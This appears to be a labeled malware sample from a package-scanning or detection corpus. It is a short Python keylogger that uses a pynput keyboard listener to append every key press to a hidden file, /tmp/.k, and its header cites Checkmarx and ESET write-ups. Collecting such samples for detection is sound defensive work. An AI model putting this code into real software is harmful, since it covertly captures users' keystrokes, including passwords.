# technique: pynput keyboard listener (keylogger)
# class: desktop
# source: Checkmarx and ESET write-ups of keylogging PyPI packages
# declares: fs-write
from pynput import keyboard

LOG = "/tmp/.k"


def _on_press(key):
    with open(LOG, "a") as fh:
        fh.write(str(key))


def start():
    keyboard.Listener(on_press=_on_press).start()
